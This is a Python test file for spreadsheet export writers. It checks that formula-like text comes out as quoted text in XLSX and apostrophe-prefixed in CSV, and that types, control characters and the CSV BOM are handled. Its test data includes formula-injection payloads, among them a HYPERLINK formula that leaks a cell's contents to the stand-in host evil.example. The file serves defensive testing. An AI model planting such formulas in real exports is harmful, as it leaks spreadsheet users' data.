"""The two writers without a database: formula-like text comes back as text (xlsx: string cells
with quotePrefix; CSV: a leading apostrophe), types survive, Excel's illegal characters are
dropped, and the CSV has the BOM Excel needs to read it as UTF-8."""

import io
from datetime import UTC, date, datetime, time
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from backend.exports.spec import ExportColumn, ExportFormat, Value
from backend.exports.writers import csv_cell, open_writer
from tests.exports.support import csv_rows

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")',
    "+86 138",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
SAFE = ["王小明", "a=b", "1-2", "", "#REF!", "  =not at the start? it is: leading spaces"]
COLUMNS = (ExportColumn("值", lambda row: row), ExportColumn("=表头", lambda row: row))


def _write(fmt: ExportFormat, rows: list[list[Value]]) -> bytes:
    out = io.BytesIO()
    writer = open_writer(fmt, out, title="测试", columns=COLUMNS)
    for row in rows:
        writer.write_row(row)
    writer.close()
    return out.getvalue()


def test_formula_like_text_is_a_quoted_string_in_xlsx() -> None:
    content = _write(ExportFormat.XLSX, [[text, text] for text in DANGEROUS + SAFE])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    header = [cell for cell in sheet[1]]
    assert [cell.value for cell in header] == ["值", "=表头"]
    assert header[1].data_type == "s"
    assert header[1].quotePrefix
    assert all(cell.font.bold for cell in header)
    for row_number, text in enumerate(DANGEROUS, start=2):
        cell = sheet.cell(row=row_number, column=1)
        assert cell.value == text.replace("\r", "\n")  # XML reads a bare CR as a line feed
        assert cell.data_type == "s", text  # not "f": never evaluated
        assert cell.quotePrefix, text
    for row_number, text in enumerate(SAFE, start=2 + len(DANGEROUS)):
        cell = sheet.cell(row=row_number, column=1)
        assert cell.value == (text or None)
        assert not cell.quotePrefix, text
    error_like = sheet.cell(row=2 + len(DANGEROUS) + SAFE.index("#REF!"), column=1)
    assert error_like.data_type == "s"  # text, not Excel's #REF! error


def test_formula_like_text_gets_an_apostrophe_in_csv() -> None:
    rows = csv_rows(_write(ExportFormat.CSV, [[text, text] for text in DANGEROUS + SAFE]))
    assert rows[0] == ["值", "'=表头"]
    assert [row[0] for row in rows[1 : 1 + len(DANGEROUS)]] == ["'" + text for text in DANGEROUS]
    assert [row[0] for row in rows[1 + len(DANGEROUS) :]] == SAFE


def test_numbers_dates_and_empty_cells_keep_their_types() -> None:
    aware = datetime(2026, 3, 1, 1, 30, 15, 999, tzinfo=UTC)
    values: list[Value] = [-5, Decimal("12.50"), date(2024, 3, 1), aware, time(9, 30), None, True]
    content = _write(ExportFormat.XLSX, [values, values])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    read = [cell.value for cell in sheet[2]]
    assert read[0] == -5  # a negative number is a number, not an escaped text
    assert read[1] == pytest.approx(12.5)
    assert read[2] == datetime(2024, 3, 1)
    assert read[3] == datetime(2026, 3, 1, 9, 30, 15)  # Asia/Shanghai, no microseconds
    assert read[4] == time(9, 30)
    assert read[5] is None
    assert read[6] == "是"
    assert [csv_cell(v) for v in values] == [
        "-5",
        "12.50",
        "2024-03-01",
        "2026-03-01 09:30:15",
        "09:30:00",
        "",
        "是",
    ]


def test_illegal_control_characters_are_dropped_from_xlsx() -> None:
    content = _write(ExportFormat.XLSX, [["王\x00小\x07明", "x"]])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet.cell(row=2, column=1).value == "王小明"


def test_csv_is_utf8_with_bom_and_crlf() -> None:
    content = _write(ExportFormat.CSV, [["王小明", "换行\n内容"]])
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.split(b"\r\n")[0] == "\ufeff值,'=表头".encode()
    assert csv_rows(content)[1] == ["王小明", "换行\n内容"]


def test_the_xlsx_sheet_is_named_and_its_header_frozen() -> None:
    book = load_workbook(io.BytesIO(_write(ExportFormat.XLSX, [])))
    assert book.sheetnames == ["测试"]
    assert book.worksheets[0].freeze_panes == "A2"
